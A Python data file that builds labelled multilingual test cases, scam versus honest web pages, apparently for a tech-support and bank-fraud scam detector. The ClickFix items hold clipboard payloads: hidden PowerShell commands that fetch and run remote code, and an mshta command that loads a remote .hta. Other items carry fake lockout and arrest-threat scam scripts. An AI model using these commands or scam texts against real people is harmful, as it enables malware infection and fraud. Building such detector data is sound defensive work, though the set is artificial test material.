# Part C: sv da fi nb cs hu ro tr el ru uk. All text invented by the reviewer.
from gen_a import P
# sv
P('sv_s_bank', 'scam', 'https://swedbank-sakerhet-konto.se.net/', 'callus-bank', 'sv', 'Swedbank - Kontot spärrat',
  "Ditt konto har spärrats på grund av misstänkt inloggning.\nEn överföring på 18 500 kr väntar. Ring vår säkerhetsavdelning direkt på 020-555 01 42 för att stoppa den.")
P('sv_s_ms', 'scam', 'https://windows-varning.web.app/', 'callus-ms', 'sv', 'Windows säkerhetsvarning',
  "Din dator har blockerats. Ett trojanskt virus har hittats.\nDina lösenord och bankuppgifter är i fara. Ring Microsoft Support: 020-555 01 43 (avgiftsfritt). Stäng inte av datorn.", None, 'fullscreen')
P('sv_s_cf', 'scam', 'https://verifiera-0144.site/', 'clickfix', 'sv', 'Verifiering',
  "Jag är inte en robot\n1. Tryck Windows + R\n2. Tryck Ctrl + V\n3. Tryck Enter", "powershell -w h -c \"iwr https://0144.icu/a|iex\" # Jag är inte en robot ID 5501")
P('sv_h_police', 'honest', 'https://polisen.se/utsatt-for-brott/skydda-dig-mot-brott/bedrageri/', 'police-warning', 'sv', 'Falsk teknisk support',
  "Bedragare visar varningar som ”Din dator är låst, ring Microsoft” och ber om fjärråtkomst.\nRing aldrig numret. Anmäl till polisen på 114 14.")
P('sv_h_repair', 'honest', 'https://www.datorhjalp-goteborg-example.se/', 'repair-shop', 'sv', 'Datorhjälp Göteborg',
  "Har datorn virus eller blå skärm? Vi tar bort virus, räddar filer och lagar Windows.\nRing oss på 031-555 01 44.")
# da
P('da_s_bank', 'scam', 'https://danskebank-sikkerhed.dk.net/', 'callus-bank', 'da', 'Konto spærret',
  "Din konto er spærret på grund af mistænkelig aktivitet.\nEn overførsel på 12.400 kr. afventer. Ring straks til vores sikkerhedsafdeling på 80 55 01 42 for at stoppe den.")
P('da_s_police', 'scam', 'https://politi-blokering.com/', 'police-lock', 'da', 'Politiet',
  "Din computer er blokeret af Politiet på grund af ulovligt indhold.\nFor at låse op skal du betale en bøde på 2.000 kr. inden for 24 timer. Ring til betjenten på 80 55 01 43.", None, 'fullscreen')
P('da_h_news', 'honest', 'https://www.dr.dk/nyheder/indland/falsk-microsoft-support', 'news-scam', 'da', 'Falsk Microsoft-support',
  "Skærmen viste: »Din computer er låst, ring til Microsoft på 80 55 01 44«. Kvinden mistede 30.000 kr.\nPolitiet råder: ring aldrig til sådan et nummer.")
P('da_h_cardblock', 'honest', 'https://danskebank.dk/privat/kort/spaer-kort', 'bank-cardblock', 'da', 'Spær dit kort',
  "Har du mistet dit kort? Spær det i appen eller ring til 70 55 01 45 døgnet rundt. Vi beder aldrig om din pinkode.")
# fi
P('fi_s_ms', 'scam', 'https://windows-varoitus.pages.dev/', 'callus-ms', 'fi', 'Windowsin suojausvaroitus',
  "Tietokoneesi on lukittu. Löysimme troijalaisen.\nSalasanasi ja pankkitietosi ovat vaarassa. Soita heti Microsoftin tukeen: 0800 555 014. Älä sammuta tietokonetta.", None, 'fullscreen')
P('fi_s_bank', 'scam', 'https://nordea-turvallisuus.fi.net/', 'callus-bank', 'fi', 'Tili suljettu',
  "Tilisi on suljettu epäilyttävän kirjautumisen vuoksi.\nOdottava siirto 1 900 €. Soita heti turvallisuusosastolle 0800 555 015 sen pysäyttämiseksi.")
P('fi_h_police', 'honest', 'https://poliisi.fi/huijaukset', 'police-warning', 'fi', 'Tekninen tuki -huijaus',
  "Huijarit näyttävät viestejä kuten ”Tietokoneesi on lukittu, soita Microsoftille” ja pyytävät etäyhteyttä.\nÄlä soita numeroon. Tee rikosilmoitus poliisille.")
P('fi_h_repair', 'honest', 'https://www.tietokonehuolto-example.fi/', 'repair-shop', 'fi', 'Tietokonehuolto Tampere',
  "Onko koneessa virus tai sininen ruutu? Poistamme virukset ja korjaamme Windowsin. Soita 03 555 0142.")
# nb
P('nb_s_ms', 'scam', 'https://windows-advarsel-no.web.app/', 'callus-ms', 'nb', 'Windows sikkerhetsvarsel',
  "Datamaskinen din er blokkert. Vi har funnet en trojaner.\nPassordene og bankopplysningene dine er i fare. Ring Microsoft Support: 800 55 014 (gratis). Ikke slå av datamaskinen.", None, 'fullscreen')
P('nb_s_arrest', 'scam', 'https://skatteetaten-inkasso.com/', 'debt-arrest', 'nb', 'Siste varsel',
  "SISTE VARSEL: Det er utstedt en arrestordre mot deg for ubetalt skatt på 28 000 kr.\nFor å stanse arrestordren må du ringe juridisk avdeling på 800 55 015 i dag.")
P('nb_h_debt', 'honest', 'https://www.lindorff-example.no/betal', 'debt-collector', 'nb', 'Betal din sak',
  "Du har et utestående beløp på 3 412 kr. Betal på nett, avtal nedbetaling eller ring oss på 22 55 01 42.\nVi truer aldri med arrestasjon.")
P('nb_h_police', 'honest', 'https://www.politiet.no/rad/svindel/', 'police-warning', 'nb', 'Falsk support',
  "Svindlere viser meldinger som «PC-en din er låst, ring Microsoft» og ber om fjerntilgang. Ikke ring. Anmeld til politiet på 02800.")
# cs
P('cs_s_ms', 'scam', 'https://varovani-windows.cz.cc/', 'callus-ms', 'cs', 'Upozornění zabezpečení Windows',
  "Váš počítač byl zablokován. Byl nalezen trojský kůň.\nVaše hesla a bankovní údaje jsou v ohrožení. Okamžitě volejte podporu Microsoft: 800 555 014. Nevypínejte počítač.", None, 'fullscreen')
P('cs_s_police', 'scam', 'https://policie-cr-blokace.com/', 'police-lock', 'cs', 'Policie ČR',
  "Váš počítač byl zablokován Policií České republiky kvůli nelegálnímu obsahu.\nPro odblokování zaplaťte pokutu 5 000 Kč do 24 hodin. Volejte policistu: 800 555 015.", None, 'fullscreen')
P('cs_h_police', 'honest', 'https://www.policie.cz/clanek/podvodna-technicka-podpora.aspx', 'police-warning', 'cs', 'Falešná technická podpora',
  "Podvodníci zobrazují hlášky jako „Váš počítač je zablokován, volejte Microsoft“ a chtějí vzdálený přístup. Nevolejte. Podejte oznámení na 158.")
P('cs_h_repair', 'honest', 'https://www.servis-pc-brno-example.cz/', 'repair-shop', 'cs', 'Servis PC Brno',
  "Má váš počítač virus nebo modrou obrazovku? Odstraníme viry a opravíme Windows. Volejte 541 555 014.")
# hu
P('hu_s_ms', 'scam', 'https://windows-figyelmeztetes.web.app/', 'callus-ms', 'hu', 'Windows biztonsági figyelmeztetés',
  "A számítógépét zároltuk. Trójai vírust találtunk.\nJelszavai és banki adatai veszélyben vannak. Hívja azonnal a Microsoft ügyfélszolgálatot: 06 80 555 014. Ne kapcsolja ki a számítógépet.", None, 'fullscreen')
P('hu_s_bank', 'scam', 'https://otp-biztonsag-ertesites.com/', 'callus-bank', 'hu', 'Számla zárolva',
  "Bankszámláját gyanús bejelentkezés miatt zároltuk.\nFüggőben lévő utalás: 450 000 Ft. A leállításához hívja azonnal a biztonsági osztályt: 06 80 555 015.")
P('hu_h_police', 'honest', 'https://www.police.hu/hu/hirek-es-informaciok/bunmegelozes/csalas', 'police-warning', 'hu', 'Hamis ügyfélszolgálat',
  "A csalók olyan üzeneteket mutatnak, mint „A számítógépe zárolva, hívja a Microsoftot”, és távoli hozzáférést kérnek. Ne hívja a számot.")
P('hu_h_cardblock', 'honest', 'https://www.otpbank.hu/portal/hu/kartya-letiltas', 'bank-cardblock', 'hu', 'Kártya letiltása',
  "Elvesztette a kártyáját? Tiltsa le az alkalmazásban vagy hívja a 06 1 555 0142 számot éjjel-nappal. Soha nem kérjük a PIN-kódját.")
# ro
P('ro_s_ms', 'scam', 'https://avertizare-windows.ro.im/', 'callus-ms', 'ro', 'Avertisment de securitate Windows',
  "Computerul dumneavoastră a fost blocat. Am detectat un troian.\nParolele și datele bancare sunt în pericol. Sunați imediat la asistența Microsoft: 0800 555 014. Nu opriți computerul.", None, 'fullscreen')
P('ro_s_arrest', 'scam', 'https://anaf-executare-silita.com/', 'debt-arrest', 'ro', 'Ultima notificare',
  "ULTIMA NOTIFICARE: s-a emis un mandat de arestare pe numele dumneavoastră pentru o datorie fiscală de 9.800 lei.\nPentru anularea mandatului sunați azi la departamentul juridic: 0800 555 015.")
P('ro_h_police', 'honest', 'https://www.politiaromana.ro/ro/stiri/atentie-la-falsul-suport-tehnic', 'police-warning', 'ro', 'Atenție la falsul suport tehnic',
  "Escrocii afișează mesaje precum „Computerul este blocat, sunați la Microsoft” și cer acces de la distanță. Nu sunați. Sesizați poliția la 112.")
P('ro_h_debtadv', 'honest', 'https://www.anpc.ro/datorii-executori', 'debt-advice', 'ro', 'Datorii și executori',
  "Nu puteți fi arestat pentru o datorie civilă. Escrocii spun „s-a emis un mandat de arestare, sunați ca să-l anulați”. Închideți telefonul.")
# tr
P('tr_s_ms', 'scam', 'https://windows-guvenlik-uyarisi.com/', 'callus-ms', 'tr', 'Windows Güvenlik Uyarısı',
  "Bilgisayarınız engellendi. Truva atı tespit edildi.\nŞifreleriniz ve banka bilgileriniz tehlikede. Hemen Microsoft Destek'i arayın: 0800 555 0142. Bilgisayarınızı kapatmayın.", None, 'fullscreen')
P('tr_s_police', 'scam', 'https://egm-siber-ceza.com/', 'police-lock', 'tr', 'Emniyet Genel Müdürlüğü',
  "Bilgisayarınız yasadışı içerik nedeniyle Emniyet Genel Müdürlüğü tarafından kilitlendi.\nKilidi açmak için 24 saat içinde 2.000 TL para cezası ödeyin. Memuru arayın: 0800 555 0143.", None, 'fullscreen')
P('tr_s_cf', 'scam', 'https://dogrulama-0144.xyz/', 'clickfix', 'tr', 'Doğrulama',
  "Robot değilim\n1. Windows + R tuşlarına basın\n2. Ctrl + V tuşlarına basın\n3. Enter'a basın", "mshta https://0144-verify.top/t.hta # Robot degilim ID 5501")
P('tr_h_news', 'honest', 'https://www.hurriyet.com.tr/teknoloji/sahte-destek-dolandiriciligi-5501', 'news-scam', 'tr', 'Sahte teknik destek dolandırıcılığı',
  "Ekranda “Bilgisayarınız kilitlendi, Microsoft'u arayın” yazıyordu. Kadın 40 bin lira kaybetti. Polis uyarıyor: bu numaraları aramayın.")
P('tr_h_repair', 'honest', 'https://www.bilgisayar-tamir-istanbul-example.com.tr/', 'repair-shop', 'tr', 'Bilgisayar Tamiri İstanbul',
  "Bilgisayarınızda virüs veya mavi ekran mı var? Virüs temizliyor, Windows onarıyoruz. Bizi arayın: 0212 555 01 44.")
# el
P('el_s_ms', 'scam', 'https://windows-proeidopoiisi.com/', 'callus-ms', 'el', 'Προειδοποίηση ασφαλείας Windows',
  "Ο υπολογιστής σας έχει κλειδωθεί. Εντοπίστηκε δούρειος ίππος.\nΟι κωδικοί και τα τραπεζικά σας στοιχεία κινδυνεύουν. Καλέστε αμέσως την υποστήριξη της Microsoft: 800 555 0142. Μην απενεργοποιήσετε τον υπολογιστή.", None, 'fullscreen')
P('el_s_bank', 'scam', 'https://piraeus-asfaleia-logariasmou.com/', 'callus-bank', 'el', 'Ο λογαριασμός σας αποκλείστηκε',
  "Ο λογαριασμός σας αποκλείστηκε λόγω ύποπτης σύνδεσης.\nΕκκρεμεί μεταφορά 1.600 €. Καλέστε αμέσως το τμήμα ασφαλείας στο 800 555 0143 για να την ακυρώσετε.")
P('el_h_police', 'honest', 'https://www.astynomia.gr/cyber-alert-texniki-ypostirixi', 'police-warning', 'el', 'Ψεύτικη τεχνική υποστήριξη',
  "Οι απατεώνες εμφανίζουν μηνύματα όπως «Ο υπολογιστής σας κλειδώθηκε, καλέστε τη Microsoft» και ζητούν απομακρυσμένη πρόσβαση. Μην καλέσετε. Επικοινωνήστε με τη Δίωξη Ηλεκτρονικού Εγκλήματος στο 11188.")
P('el_h_repair', 'honest', 'https://www.service-pc-athina-example.gr/', 'repair-shop', 'el', 'Service υπολογιστών Αθήνα',
  "Έχει ο υπολογιστής σας ιό ή μπλε οθόνη; Αφαιρούμε ιούς και επισκευάζουμε τα Windows. Καλέστε 210 555 0144.")
# ru
P('ru_s_ms', 'scam', 'https://windows-preduprezhdenie.ru.com/', 'callus-ms', 'ru', 'Предупреждение безопасности Windows',
  "Ваш компьютер заблокирован. Обнаружен троян.\nВаши пароли и банковские данные под угрозой. Немедленно позвоните в службу поддержки Microsoft: 8 800 555-01-42. Не выключайте компьютер.", None, 'fullscreen')
P('ru_s_sber', 'scam', 'https://sber-bezopasnost-schet.com/', 'callus-bank', 'ru', 'Сбербанк - счёт заблокирован',
  "Ваш счёт заблокирован из-за подозрительной операции на сумму 85 000 ₽.\nЧтобы отменить перевод, срочно позвоните в службу безопасности: 8 800 555-01-43.")
P('ru_s_cf', 'scam', 'https://proverka-0144.ru.net/', 'clickfix', 'ru', 'Проверка',
  "Я не робот\n1. Нажмите Win + R\n2. Нажмите Ctrl + V\n3. Нажмите Enter", "powershell -w hidden -c \"iex (iwr 'https://0144cdn.top/r' -UseBasicParsing)\" # Я не робот ID 5501")
P('ru_h_police', 'honest', 'https://мвд.рф/news/item/5501', 'police-warning', 'ru', 'Осторожно: мошенники',
  "Мошенники показывают сообщения «Ваш компьютер заблокирован, позвоните в Microsoft» и просят удалённый доступ. Не звоните. Сообщите в полицию по номеру 102.")
P('ru_h_repair', 'honest', 'https://www.remont-pk-example.ru/', 'repair-shop', 'ru', 'Ремонт компьютеров',
  "Вирус или синий экран? Удаляем вирусы, восстанавливаем Windows. Звоните: +7 495 555-01-44.")
# uk
P('uk_s_ms', 'scam', 'https://windows-poperedzhennya.com/', 'callus-ms', 'uk', 'Попередження безпеки Windows',
  "Ваш комп'ютер заблоковано. Виявлено троян.\nВаші паролі та банківські дані під загрозою. Негайно зателефонуйте до служби підтримки Microsoft: 0 800 555 014. Не вимикайте комп'ютер.", None, 'fullscreen')
P('uk_s_police', 'scam', 'https://kiberpolitsiya-shtraf.com/', 'police-lock', 'uk', 'Кіберполіція',
  "Ваш комп'ютер заблоковано Кіберполіцією за перегляд незаконного контенту.\nЩоб розблокувати, сплатіть штраф 3 400 грн протягом 24 годин. Телефонуйте інспектору: 0 800 555 015.", None, 'fullscreen')
P('uk_h_police', 'honest', 'https://cyberpolice.gov.ua/news/shahraystvo-pidtrymka', 'police-warning', 'uk', 'Шахрайство: фальшива підтримка',
  "Шахраї показують повідомлення «Ваш комп'ютер заблоковано, зателефонуйте в Microsoft» і просять віддалений доступ. Не телефонуйте.")
P('uk_h_cardblock', 'honest', 'https://privatbank.ua/blokuvannya-kartky', 'bank-cardblock', 'uk', 'Блокування картки',
  "Загубили картку? Заблокуйте її в застосунку або зателефонуйте 3700 цілодобово. Ми ніколи не питаємо PIN-код.")
